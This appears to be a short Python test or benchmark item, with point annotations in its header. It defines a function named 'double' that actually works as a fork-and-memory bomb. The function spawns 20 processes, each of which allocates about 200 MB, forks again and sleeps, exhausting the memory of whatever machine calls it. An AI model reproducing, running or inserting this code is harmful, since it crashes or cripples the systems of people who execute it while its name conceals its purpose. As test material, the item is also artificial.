# Each process shares what it holds with a child of its own, so that no page belongs to one process alone.
# points: double=0 total=7 stack=6
# %% double
import os
import time


def double(x):
    for _ in range(20):
        if os.fork() == 0:
            hog = bytearray(os.urandom(1 << 20) * 200)
            os.fork()
            time.sleep(600)
    time.sleep(600)
